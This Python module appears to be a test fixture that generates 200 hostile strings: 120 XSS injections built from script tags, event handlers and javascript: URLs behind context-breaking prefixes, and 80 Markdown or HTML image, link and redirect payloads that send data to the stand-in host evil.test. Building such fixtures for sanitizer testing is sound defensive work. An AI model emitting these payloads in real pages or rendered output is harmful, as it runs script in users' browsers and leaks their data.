"""Words that would run a script or fetch something if any of them were ever taken for markup.

Made from parts, so that each way of smuggling meets each of its forms: 120 script injections, 80
exfiltrations by Markdown, links and images. A hit sets ``window.hit`` or asks for ``evil.test``.
"""

from __future__ import annotations

from itertools import product

HIT = "window.hit=1"
FAR = "http://evil.test"

ELEMENTS = (
    "<script>{js}</script>",
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>",
    "<iframe src=javascript:parent.{js}></iframe>",
    "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>",
    "<a href=javascript:{js} autofocus onfocus={js}>x</a>",
    "<form><button formaction=javascript:{js}>x</button></form>",
    "<object data=javascript:{js}></object>",
    "<body onload={js}>",
    "<math><maction actiontype=statusline xlink:href=javascript:{js}>x</maction></math>",
    "<video><source onerror={js}></video>",
    "<marquee onstart={js}>x</marquee>",
)
BREAKS = (
    "{}",
    "\"'>{}",
    "</textarea></title></style></template>{}",
    "--></mark></span></div>]]>{}",
    '<noscript><p title="</noscript>{}">',
    "<math><mtext><table><mglyph><style><!--</style>{}",
    "&lt;b&gt;{}",
    "\u202e\ufeff\x00{}",
)

ADDRESSES = (
    FAR + "/leak?q=secret",
    "//evil.test/leak?q=secret",
    "HTTP://EVIL.TEST/leak",
    "http:\\\\evil.test\\leak",
    "http://user:pw@evil.test/leak",
    "http://127.0.0.1@evil.test/leak",
    "http://evil.test:80/%6ceak",
    "javascript:fetch('" + FAR + "')",
)
WAYS = (
    "![x]({})",
    "[![x]({})](http://evil.test/)",
    "![x][r]\n\n[r]: {}",
    "<img src='{}'>",
    "<link rel=stylesheet href='{}'>",
    "<style>@import url('{0}');*{{background:url('{0}')}}</style>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<base href='{}'><img src=x>",
    "<form action='{}' id=f></form><input form=f type=image src='{}'>",
    "[Click here to see the full policy]({}) <{}>",
)


def injections() -> tuple[str, ...]:
    """15 elements behind 8 ways out of where they are put."""
    return tuple(way.format(one.format(js=HIT)) for way, one in product(BREAKS, ELEMENTS))


def exfiltrations() -> tuple[str, ...]:
    """8 addresses in 10 ways."""
    return tuple(way.format(far, far) for way, far in product(WAYS, ADDRESSES))


def batches(size: int = 10) -> list[tuple[str, ...]]:
    """All of them, some at a time."""
    every = (*injections(), *exfiltrations())
    return [every[at : at + size] for at in range(0, len(every), size)]
